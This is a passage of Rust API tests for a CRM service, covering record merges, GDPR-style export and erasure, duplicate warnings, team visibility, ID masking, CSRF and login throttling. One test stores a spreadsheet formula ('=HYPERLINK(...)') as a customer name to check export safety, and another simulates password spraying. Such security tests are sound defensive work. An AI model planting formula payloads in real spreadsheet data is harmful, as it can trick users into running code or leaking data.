//! API tests: the same suite on SQLite and PostgreSQL, over real HTTP.

use crate::common::{TestApp, PASSWORD};
use guanxi_domain::role::Role;
use reqwest::StatusCode;
use serde_json::{json, Value};

on_both_backends!(
    identify_finds_a_mobile_stored_in_another_format_and_pinyin,
    stale_update_is_409_and_audited,
    sales_cannot_see_another_teams_customer,
    viewer_sees_masked_id_and_sensitive_reads_are_audited,
    bad_input_gets_field_errors_in_the_callers_language,
    session_login_csrf_logout_and_throttle,
    openapi_documents_every_route,
    contact_points_relations_orders_and_pagination,
    users_and_teams_need_admin,
    interactions_tasks_and_timeline,
    score_refresh_job_on_demand,
    segments_are_sized_listed_and_exported_within_scope,
    exported_cells_cannot_run_as_formulas,
    a_likely_duplicate_is_named_unless_allowed,
    data_subject_requests_export_everything_and_erase,
    merge_previews_chooses_fields_and_undoes,
);

async fn merge_previews_chooses_fields_and_undoes(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let rep = app.user("rep", Role::Sales, None).await;
    let w = create(
        &admin,
        json!({"kind": "individual", "name": "杨十八", "city": "上海"}),
    )
    .await;
    let l = create(
        &admin,
        json!({"kind": "individual", "name": "杨十八", "city": "南京", "job_title": "经理",
        "contact_points": [{"kind": "mobile", "value": "135 0000 8888"}]}),
    )
    .await;
    let (wi, li) = (w["id"].as_i64().unwrap(), l["id"].as_i64().unwrap());
    let (s, _) = rep
        .get(&format!("/customers/{wi}/merge-preview?loser_id={li}"))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, p) = admin
        .get(&format!("/customers/{wi}/merge-preview?loser_id={li}"))
        .await;
    assert_eq!(s, StatusCode::OK, "{p}");
    assert_eq!(p["differing"], json!(["city", "job_title"]));
    assert_eq!(p["suggested"], json!(["job_title"]));
    assert_eq!(p["moves"]["contact_points"], 1);
    let (s, _) = admin
        .get(&format!("/customers/{wi}/merge-preview?loser_id=0"))
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let body = |take: Value| json!({"version": w["version"], "loser_id": li, "loser_version": l["version"], "take": take});
    let (s, e) = admin
        .post(&format!("/customers/{wi}/merge"), body(json!(["kind"])))
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
    assert_eq!(e["fields"][0]["field"], "take[0]");
    let (s, m) = admin
        .post(&format!("/customers/{wi}/merge"), body(json!(["city"])))
        .await;
    assert_eq!(s, StatusCode::OK, "{m}");
    assert_eq!(m["city"], "南京");
    assert_eq!(
        m["job_title"],
        Value::Null,
        "not chosen: the survivor's (empty) value"
    );
    let (s, list) = admin.get(&format!("/customers/{wi}/merges")).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(list.as_array().unwrap().len(), 1);
    assert_eq!(list[0]["loser_id"], li);
    assert_eq!(list[0]["moved"]["contact_points"], 1);
    let merge_id = list[0]["id"].as_i64().unwrap();
    let (s, back) = admin
        .post(&format!("/merges/{merge_id}/undo"), json!({}))
        .await;
    assert_eq!(s, StatusCode::OK, "{back}");
    assert_eq!(back["id"], li);
    assert_eq!(back["contact_points"].as_array().unwrap().len(), 1);
    let (_, w2) = admin.get(&format!("/customers/{wi}")).await;
    assert_eq!(w2["city"], "上海");
    let (s, e) = admin
        .post(&format!("/merges/{merge_id}/undo"), json!({}))
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(e["fields"][0]["code"], "already_undone");
    let (s, _) = admin.post("/merges/999999/undo", json!({})).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

async fn data_subject_requests_export_everything_and_erase(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let manager = app.user("boss", Role::Manager, None).await;
    let c = create(
        &admin,
        json!({"kind": "individual", "name": "=HYPERLINK(\"x\")", "id_number": "11010519491231002X",
        "contact_points": [{"kind": "mobile", "value": "136 0000 7777"}]}),
    )
    .await;
    let id = c["id"].as_i64().unwrap();
    let (s, _) = admin
        .post(
            &format!("/customers/{id}/interactions"),
            json!({"channel": "phone", "subject": "要求查看个人信息"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    // Everything held, unmasked, as JSON; audited.
    let (s, d) = admin.get(&format!("/customers/{id}/export")).await;
    assert_eq!(s, StatusCode::OK, "{d}");
    assert_eq!(d["customer"]["id_number"], "11010519491231002X");
    assert_eq!(d["customer"]["contact_points"][0]["value"], "136 0000 7777");
    assert_eq!(d["interactions"][0]["subject"], "要求查看个人信息");
    assert!(d["audit"]
        .as_array()
        .unwrap()
        .iter()
        .any(|a| a["action"] == "create"));
    // The same as a workbook.
    let (s, kind, bytes) = admin
        .download(&format!("/customers/{id}/export?format=xlsx"))
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(kind.contains("spreadsheetml"), "{kind}");
    assert_eq!(&bytes[..2], b"PK", "an xlsx is a zip");
    assert!(bytes.windows(15).any(|w| w == b"xl/workbook.xml"));
    let (s, _) = admin
        .get(&format!("/customers/{id}/export?format=pdf"))
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let (_, log) = admin.get("/audit?action=export&entity=customer").await;
    assert_eq!(log["items"].as_array().unwrap().len(), 2, "{log}");
    // Managers may not: the file is complete and an erasure final.
    let (s, _) = manager.get(&format!("/customers/{id}/export")).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = manager
        .post(&format!("/customers/{id}/erase"), json!({"reason": "x"}))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    // Erasure: a reason is required; then the customer is gone, once.
    let (s, e) = admin
        .post(&format!("/customers/{id}/erase"), json!({"reason": " "}))
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
    assert_eq!(e["fields"][0]["field"], "reason");
    let (s, r) = admin
        .post(
            &format!("/customers/{id}/erase"),
            json!({"reason": "书面申请"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["contact_points"], 1);
    assert_eq!(r["interactions"], 1);
    let (s, _) = admin.get(&format!("/customers/{id}")).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = admin
        .post(
            &format!("/customers/{id}/erase"),
            json!({"reason": "again"}),
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (_, hits) = admin.get("/customers/identify?q=13600007777").await;
    assert_eq!(hits.as_array().unwrap().len(), 0, "{hits}");
}

async fn a_likely_duplicate_is_named_unless_allowed(app: &TestApp) {
    let east = app.user("east1", Role::Sales, Some("East")).await;
    let west = app.user("west1", Role::Sales, Some("West")).await;
    let first = create(&east, json!({"kind": "individual", "name": "卫十三", "id_number": "11010519491231002X",
        "contact_points": [{"kind": "mobile", "value": "138 0000 1111"}, {"kind": "email", "value": "wei@example.com"}]})).await;
    let again = json!({"kind": "individual", "name": "卫 十三",
        "contact_points": [{"kind": "wechat", "value": "wei_shisan"}, {"kind": "mobile", "value": "+86 138-0000-1111"}]});
    let (s, e) = east.post("/customers", again.clone()).await;
    assert_eq!(s, StatusCode::CONFLICT, "{e}");
    assert_eq!(e["error"], "possible_duplicate");
    assert_eq!(e["candidates"][0]["customer_id"], first["id"]);
    assert_eq!(e["candidates"][0]["matched_on"], "mobile");
    assert_eq!(e["fields"][0]["field"], "contact_points[1].value");
    // Same email in other letters, same ID number in lower case: the same warning.
    let (s, e) = east
        .post("/customers", json!({"kind": "individual", "name": "x", "contact_points": [{"kind": "email", "value": "WEI@example.com"}]}))
        .await;
    assert_eq!(
        (s, e["candidates"][0]["matched_on"].as_str()),
        (StatusCode::CONFLICT, Some("email"))
    );
    let (s, e) = east
        .post(
            "/customers",
            json!({"kind": "individual", "name": "y", "id_number": "11010519491231002x"}),
        )
        .await;
    assert_eq!(
        (s, e["candidates"][0]["matched_on"].as_str()),
        (StatusCode::CONFLICT, Some("id_number"))
    );
    // Nothing was stored by the refusals.
    let (_, list) = east.get("/customers?limit=50").await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    // Confirmed: created.
    let mut allowed = again.clone();
    allowed["allow_duplicate"] = json!(true);
    let second = create(&east, allowed).await;
    assert_ne!(second["id"], first["id"]);
    assert!(
        second.get("allow_duplicate").is_none(),
        "a request flag, not a field"
    );
    // The same name at the same employer (a company: the same name) is the same warning; the
    // same name elsewhere is someone else.
    create(
        &east,
        json!({"kind": "individual", "name": "李娜", "employer": "华南商贸"}),
    )
    .await;
    let (s, e) = east
        .post(
            "/customers",
            json!({"kind": "individual", "name": "李娜", "employer": " 华南商贸 "}),
        )
        .await;
    assert_eq!(
        (s, e["candidates"][0]["matched_on"].as_str()),
        (StatusCode::CONFLICT, Some("name_company")),
        "{e}"
    );
    create(
        &east,
        json!({"kind": "individual", "name": "李娜", "employer": "北方贸易"}),
    )
    .await;
    create(&east, json!({"kind": "company", "name": "Acme 有限公司"})).await;
    let (s, e) = east
        .post(
            "/customers",
            json!({"kind": "company", "name": " Acme 有限公司 "}),
        )
        .await;
    assert_eq!(
        (s, e["candidates"][0]["matched_on"].as_str()),
        (StatusCode::CONFLICT, Some("name_company")),
        "{e}"
    );
    // Another team's customer is never revealed: west creates the same number freely.
    let (s, v) = west.post("/customers", again).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
}

async fn create(api: &crate::common::Api, body: Value) -> Value {
    let (s, v) = api.post("/customers", body).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    v
}

async fn identify_finds_a_mobile_stored_in_another_format_and_pinyin(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let c = create(&admin, json!({"kind": "individual", "name": "张三", "contact_points": [{"kind": "mobile", "value": "+86 138-1234-5678"}]})).await;
    create(&admin, json!({"kind": "individual", "name": "Zhang Wei"})).await;
    for q in [
        "13812345678",
        "138 1234 5678",
        "+8613812345678",
        "zhangsan",
        "zs",
        "张三",
        "三",
    ] {
        let (s, hits) = admin
            .get(&format!("/customers/identify?q={}", urlencode(q)))
            .await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(hits[0]["customer_id"], c["id"], "query {q}: {hits}");
    }
    let (_, hits) = admin.get("/customers/identify?q=13812345678").await;
    assert_eq!(hits[0]["score"], 100);
    assert_eq!(hits[0]["matched_on"], "phone");
    let (s, v) = admin.get("/customers/identify?q=").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn stale_update_is_409_and_audited(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let c = create(
        &admin,
        json!({"kind": "individual", "name": "王五", "city": "上海"}),
    )
    .await;
    let id = c["id"].as_i64().unwrap();
    let (s, v) = admin
        .patch(
            &format!("/customers/{id}"),
            json!({"version": 1, "city": "北京"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["version"], 2);
    let (s, v) = admin
        .patch(
            &format!("/customers/{id}"),
            json!({"version": 1, "city": "广州"}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    assert_eq!(v["error"], "conflict");
    assert_eq!(v["current_version"], 2);
    let (_, v) = admin.get(&format!("/customers/{id}")).await;
    assert_eq!(v["city"], "北京", "the stale write changed nothing");
    let (s, log) = admin
        .get(&format!("/audit?entity=customer&entity_id={id}"))
        .await;
    assert_eq!(s, StatusCode::OK);
    let actions: Vec<&str> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["update", "create"]);
    assert_eq!(
        log["items"][0]["detail"]["city"],
        json!({"before": "上海", "after": "北京"})
    );
    let (s, _) = admin.delete(&format!("/customers/{id}?version=1")).await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (s, _) = admin.delete(&format!("/customers/{id}?version=2")).await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (s, _) = admin.get(&format!("/customers/{id}")).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

async fn sales_cannot_see_another_teams_customer(app: &TestApp) {
    let east = app.user("east1", Role::Sales, Some("East")).await;
    let east2 = app.user("east2", Role::Sales, Some("East")).await;
    let west = app.user("west1", Role::Sales, Some("West")).await;
    let theirs = create(&west, json!({"kind": "individual", "name": "西区客户", "contact_points": [{"kind": "mobile", "value": "13900001111"}]})).await;
    let ours = create(&east, json!({"kind": "individual", "name": "东区客户"})).await;
    let tid = theirs["id"].as_i64().unwrap();
    for path in [
        format!("/customers/{tid}"),
        format!("/customers/{tid}/contact-points"),
        format!("/customers/{tid}/relations"),
    ] {
        let (s, v) = east.get(&path).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{path}: {v}");
    }
    let (s, _) = east
        .patch(
            &format!("/customers/{tid}"),
            json!({"version": 1, "city": "x"}),
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (_, hits) = east.get("/customers/identify?q=13900001111").await;
    assert_eq!(hits, json!([]));
    let (_, list) = east.get("/customers").await;
    let ids: Vec<i64> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, [ours["id"].as_i64().unwrap()]);
    let (s, _) = east2.get(&format!("/customers/{}", ours["id"])).await;
    assert_eq!(s, StatusCode::OK, "a team mate sees the team's customers");
    let (s, _) = east
        .post(
            &format!("/customers/{}/relations", ours["id"]),
            json!({"to_customer_id": tid, "kind": "friend"}),
        )
        .await;
    assert_eq!(
        s,
        StatusCode::UNPROCESSABLE_ENTITY,
        "cannot link to an invisible customer"
    );
    let (s, _) = east
        .patch(
            &format!("/customers/{}", ours["id"]),
            json!({"version": 1, "owner_id": west.user_id}),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "sales may not reassign");
}

async fn viewer_sees_masked_id_and_sensitive_reads_are_audited(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let viewer = app.user("viewer", Role::Viewer, None).await;
    let c = create(
        &admin,
        json!({"kind": "individual", "name": "赵六", "id_number": "11010519491231002X"}),
    )
    .await;
    let id = c["id"].as_i64().unwrap();
    let (s, v) = viewer.get(&format!("/customers/{id}")).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(v["id_number"], "110***********002X");
    assert_eq!(v["id_number_masked"], true);
    let (_, list) = viewer.get("/customers").await;
    assert!(
        !list.to_string().contains("11010519491231002X"),
        "lists never carry the raw ID"
    );
    let (s, _) = viewer
        .post("/customers", json!({"kind": "individual", "name": "x"}))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = viewer.get("/audit").await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (_, v) = admin.get(&format!("/customers/{id}")).await;
    assert_eq!(v["id_number"], "11010519491231002X");
    let (_, log) = admin
        .get(&format!("/audit?action=read_sensitive&entity_id={id}"))
        .await;
    assert_eq!(log["items"].as_array().unwrap().len(), 1, "{log}");
    assert_eq!(log["items"][0]["actor_name"], "admin");
    let (_, log) = admin
        .get(&format!(
            "/audit?entity=customer&entity_id={id}&action=create"
        ))
        .await;
    assert!(
        !log.to_string().contains("11010519491231002X"),
        "the audit log does not copy the raw ID: {log}"
    );
}

async fn bad_input_gets_field_errors_in_the_callers_language(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let (s, v) = admin.post("/customers", json!({"kind": "individual", "name": " ", "birthday": {"month": 2, "day": 30}, "contact_points": [{"kind": "email", "value": "not-an-email"}]})).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    let fields: Vec<&str> = v["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["field"].as_str().unwrap())
        .collect();
    assert!(
        fields.contains(&"name")
            && fields.contains(&"birthday")
            && fields.contains(&"contact_points[0].value"),
        "{v}"
    );
    assert_eq!(v["message"], "Some fields are invalid; please check them.");
    let zh = admin.clone().lang("zh-CN,zh;q=0.9");
    let (s, v) = zh.post("/customers", json!({"kind": "individual", "name": "x", "contact_points": [{"kind": "mobile", "value": "12"}]})).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(v["fields"][0]["message"], "电话号码无效。");
    assert_eq!(v["message"], "输入有误，请检查标出的字段。");
    let (s, v) = admin
        .post(
            "/customers",
            json!({"kind": "individual", "name": "x", "nmae": "typo"}),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert_eq!(
        v["fields"][0],
        json!({"field": "nmae", "code": "unknown_field", "message": "Unknown field."})
    );
    let (s, v) = admin
        .post("/customers", json!({"kind": "robot", "name": "x"}))
        .await;
    assert_eq!(
        (s, v["fields"][0]["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("kind"))
    );
    let (s, _) = admin
        .send(
            admin
                .raw(reqwest::Method::POST, "/customers")
                .body("{\"kind\": "),
        )
        .await;
    assert_eq!(s, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let (s, v) = admin
        .send(
            admin
                .raw(reqwest::Method::POST, "/customers")
                .header("content-type", "application/json")
                .body("{\"kind\": "),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    let huge = json!({"kind": "individual", "name": "x".repeat(2 * 1024 * 1024)});
    let (s, _) = admin.post("/customers", huge).await;
    assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE);
    let (s, v) = admin.get("/customers?limit=abc").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    let (s, v) = admin.get("/customers?cursor=zz").await;
    assert_eq!(
        (s, v["fields"][0]["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("cursor"))
    );
    let (s, v) = admin.get("/customers/abc").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    let (_, list) = admin.get("/customers").await;
    assert_eq!(list["items"], json!([]), "no failed request wrote anything");
    // Page sizes outside the documented range are refused, not silently clamped.
    for path in [
        "/customers?limit=0",
        "/customers?limit=201",
        "/customers/identify?q=zhang&limit=51",
        "/orders?limit=501",
    ] {
        let (s, e) = admin.get(path).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{path}: {e}");
        assert_eq!(e["fields"][0]["field"], "limit", "{path}");
    }
    let (s, _) = admin.get("/customers?limit=200").await;
    assert_eq!(s, StatusCode::OK);
}

async fn session_login_csrf_logout_and_throttle(app: &TestApp) {
    app.user("rep", Role::Sales, None).await;
    let browser = app.anonymous();
    let (s, _) = browser.get("/auth/me").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let res = browser
        .http
        .post(format!("{}/auth/login", browser.base))
        .json(&json!({"username": "rep", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let cookie = res
        .headers()
        .get("set-cookie")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"),
        "{cookie}"
    );
    let body: Value = res.json().await.unwrap();
    let csrf = body["csrf_token"].as_str().unwrap().to_string();
    let (s, me) = browser.get("/auth/me").await;
    assert_eq!((s, me["username"].as_str()), (StatusCode::OK, Some("rep")));
    let (s, v) = browser
        .post("/customers", json!({"kind": "individual", "name": "x"}))
        .await;
    assert_eq!(
        (s, v["error"].as_str()),
        (StatusCode::FORBIDDEN, Some("csrf_failed"))
    );
    let (s, _) = browser
        .send(
            browser
                .raw(reqwest::Method::POST, "/customers")
                .header("x-csrf-token", "wrong")
                .json(&json!({"kind": "individual", "name": "x"})),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, _) = browser
        .send(
            browser
                .raw(reqwest::Method::POST, "/customers")
                .header("x-csrf-token", &csrf)
                .json(&json!({"kind": "individual", "name": "x"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let (s, _) = browser
        .send(
            browser
                .raw(reqwest::Method::POST, "/auth/logout")
                .header("x-csrf-token", &csrf),
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (s, _) = browser.get("/auth/me").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, _) = browser.get("/customers").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let other = app.anonymous();
    for _ in 0..5 {
        let (s, v) = other
            .post(
                "/auth/login",
                json!({"username": "rep", "password": "wrong password"}),
            )
            .await;
        assert_eq!(
            (s, v["error"].as_str()),
            (StatusCode::UNAUTHORIZED, Some("invalid_credentials"))
        );
    }
    let (s, _) = other
        .post(
            "/auth/login",
            json!({"username": "rep", "password": PASSWORD}),
        )
        .await;
    assert_eq!(
        s,
        StatusCode::TOO_MANY_REQUESTS,
        "locked after five failures"
    );
    // ... from that address only: the colleague at another machine still signs in.
    let (s, v) = app
        .anonymous_from([127, 0, 0, 2])
        .post(
            "/auth/login",
            json!({"username": "rep", "password": PASSWORD}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "another address is not locked out: {v}");
    // One address spraying guesses over many usernames is stopped after twenty failures,
    // whichever account it tries next.
    let sprayer = app.anonymous_from([127, 0, 0, 3]);
    for i in 0..20 {
        let (s, _) = sprayer
            .post(
                "/auth/login",
                json!({"username": format!("user{i}"), "password": "Winter2026!"}),
            )
            .await;
        assert_eq!(s, StatusCode::UNAUTHORIZED, "attempt {i}");
    }
    let (s, _) = sprayer
        .post(
            "/auth/login",
            json!({"username": "rep", "password": PASSWORD}),
        )
        .await;
    assert_eq!(s, StatusCode::TOO_MANY_REQUESTS, "the address is throttled");
    let (s, _) = other
        .post(
            "/auth/login",
            json!({"username": "nobody", "password": "whatever12"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let bad = crate::common::Api {
        auth: Some("Bearer gx_forged".into()),
        ..app.anonymous()
    };
    let (s, _) = bad.get("/customers").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
}

async fn openapi_documents_every_route(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let (s, doc) = admin.get("/openapi.json").await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        doc["openapi"].as_str().map(|v| v.starts_with("3.")),
        Some(true)
    );
    let paths = doc["paths"].as_object().unwrap();
    let mut operations = 0;
    for (path, item) in paths {
        for method in ["get", "post", "patch", "delete", "put"] {
            if item.get(method).is_none() {
                continue;
            }
            operations += 1;
            let concrete = path.replace("{id}", "1").replacen("/api/v1", "", 1);
            let m = reqwest::Method::from_bytes(method.to_uppercase().as_bytes()).unwrap();
            let mut req = admin.raw(m, &concrete);
            if method != "get" && method != "delete" {
                req = req.json(&json!({}));
            }
            let (s, v) = admin.send(req).await;
            assert_ne!(
                v["error"], "no_route",
                "{method} {path} is documented but not routed"
            );
            assert_ne!(s, StatusCode::METHOD_NOT_ALLOWED, "{method} {path}");
            assert!(!s.is_server_error(), "{method} {path}: {s} {v}");
        }
    }
    assert!(operations >= 30, "only {operations} operations documented");
    assert!(paths.contains_key("/api/v1/customers/identify"));
    // And the converse: an undocumented path is not routed.
    let (_, v) = admin.get("/customers/1/secret").await;
    assert_eq!(v["error"], "no_route");
}

async fn contact_points_relations_orders_and_pagination(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let p = create(&admin, json!({"kind": "individual", "name": "孙八"})).await;
    let co = create(&admin, json!({"kind": "company", "name": "北京茶业有限公司", "company": {"legal_form": "有限责任公司", "credit_status": "good", "credit_incidents": [{"date": "2024-03-01", "description": "逾期付款 30 天"}]}})).await;
    let (pid, cid) = (p["id"].as_i64().unwrap(), co["id"].as_i64().unwrap());
    let (s, cp) = admin.post(&format!("/customers/{pid}/contact-points"), json!({"kind": "email", "value": "Sun.Ba@Example.com", "consent_marketing": false, "source": {"channel": "exhibition", "direct": true}})).await;
    assert_eq!(s, StatusCode::CREATED, "{cp}");
    assert_eq!(cp["value_normalized"], "sun.ba@example.com");
    let (_, hits) = admin
        .get("/customers/identify?q=SUN.BA%40example.com")
        .await;
    assert_eq!(hits[0]["customer_id"], pid);
    let (s, cp2) = admin
        .patch(
            &format!("/contact-points/{}", cp["id"]),
            json!({"version": 1, "consent_marketing": true}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{cp2}");
    assert_eq!(cp2["consent_marketing"], true);
    assert!(cp2["consent_updated_at"].is_string());
    let (s, _) = admin
        .patch(
            &format!("/contact-points/{}", cp["id"]),
            json!({"version": 1, "consent_marketing": false}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (s, r) = admin
        .post(
            &format!("/customers/{pid}/relations"),
            json!({"to_customer_id": cid, "kind": "principal_of", "role": "legal_representative"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{r}");
    let (_, rels) = admin.get(&format!("/customers/{cid}/relations")).await;
    assert_eq!(rels[0]["from_name"], "孙八");
    let (s, o) = admin.post("/orders", json!({"customer_id": pid, "ordered_at": "2026-01-15T08:00:00Z", "channel": "store", "lines": [{"sku": "TEA-1", "product_name": "龙井", "quantity": 2, "unit_price_minor": 38800}]})).await;
    assert_eq!(s, StatusCode::CREATED, "{o}");
    assert_eq!(o["total_minor"], 77600);
    assert_eq!(o["currency"], "CNY");
    let (s, v) = admin.post("/orders", json!({"customer_id": pid, "ordered_at": "2099-01-01T00:00:00Z", "channel": "store", "currency": "rmb", "lines": []})).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    let fields: Vec<&str> = v["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["field"].as_str().unwrap())
        .collect();
    assert_eq!(fields, ["ordered_at", "currency", "lines"]);
    let (_, orders) = admin.get(&format!("/orders?customer_id={pid}")).await;
    assert_eq!(orders["items"].as_array().unwrap().len(), 1);
    for i in 0..7 {
        create(
            &admin,
            json!({"kind": "individual", "name": format!("Page {i}"), "tags": ["paged"]}),
        )
        .await;
    }
    let mut seen = Vec::new();
    let mut url = "/customers?tag=paged&sort=name&limit=3".to_string();
    loop {
        let (s, page) = admin.get(&url).await;
        assert_eq!(s, StatusCode::OK, "{page}");
        seen.extend(
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|c| c["name"].as_str().unwrap().to_string()),
        );
        match page["next_cursor"].as_str() {
            Some(c) => url = format!("/customers?tag=paged&sort=name&limit=3&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(
        seen,
        (0..7).map(|i| format!("Page {i}")).collect::<Vec<_>>()
    );
}

async fn users_and_teams_need_admin(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let rep = app.user("rep", Role::Sales, None).await;
    let (s, _) = rep.post("/users", json!({"username": "x1", "display_name": "x", "password": "long enough pw", "role": "admin"})).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, v) = admin.post("/users", json!({"username": "Bad Name", "display_name": "", "password": "short", "role": "sales"})).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(v["fields"].as_array().unwrap().len(), 3, "{v}");
    let (s, t) = admin.post("/teams", json!({"name": "North"})).await;
    assert_eq!(s, StatusCode::CREATED);
    let (s, u) = admin.post("/users", json!({"username": "north.rep", "display_name": "N", "password": "long enough pw", "role": "sales", "team_id": t["id"]})).await;
    assert_eq!(s, StatusCode::CREATED, "{u}");
    assert!(u.get("password_hash").is_none());
    let (s, _) = admin.post("/users", json!({"username": "north.rep", "display_name": "N", "password": "long enough pw", "role": "sales"})).await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (s, me) = rep
        .patch(
            &format!("/users/{}", rep.user_id),
            json!({"version": 1, "locale": "zh-CN"}),
        )
        .await;
    assert_eq!((s, me["locale"].as_str()), (StatusCode::OK, Some("zh-CN")));
    let (s, _) = rep
        .patch(
            &format!("/users/{}", rep.user_id),
            json!({"version": 2, "role": "admin"}),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "no self-promotion");
    let (s, _) = admin
        .patch(
            &format!("/users/{}", rep.user_id),
            json!({"version": 2, "active": false}),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, _) = rep.get("/customers").await;
    assert_eq!(
        s,
        StatusCode::UNAUTHORIZED,
        "a locked user's tokens stop working"
    );
    // An admin cannot lock themselves out (deactivate or demote); a fuzzing run otherwise could.
    let (_, me) = admin.get(&format!("/users/{}", admin.user_id)).await;
    for change in [json!({"active": false}), json!({"role": "sales"})] {
        let mut body = change.clone();
        body["version"] = me["version"].clone();
        let (s, e) = admin
            .patch(&format!("/users/{}", admin.user_id), body)
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{change}: {e}");
        assert_eq!(e["fields"][0]["code"], "self_lockout");
    }
    let (s, _) = admin.get("/customers").await;
    assert_eq!(s, StatusCode::OK, "still an active admin");
}

async fn interactions_tasks_and_timeline(app: &TestApp) {
    let east = app.user("east1", Role::Sales, Some("East")).await;
    let west = app.user("west1", Role::Sales, Some("West")).await;
    let c = create(&east, json!({"kind": "individual", "name": "何静"})).await;
    let id = c["id"].as_i64().unwrap();
    let (s, i) = east
        .post(
            &format!("/customers/{id}/interactions"),
            json!({"channel": "wechat", "subject": "问了新茶的价格", "direction": "inbound"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{i}");
    let (s, e) = east
        .post(
            &format!("/customers/{id}/interactions"),
            json!({"channel": "fax", "subject": ""}),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{e}");
    assert_eq!(e["fields"][0]["field"], "channel");
    let (s, e) = east
        .post(
            &format!("/customers/{id}/interactions"),
            json!({"channel": "phone", "subject": "  "}),
        )
        .await;
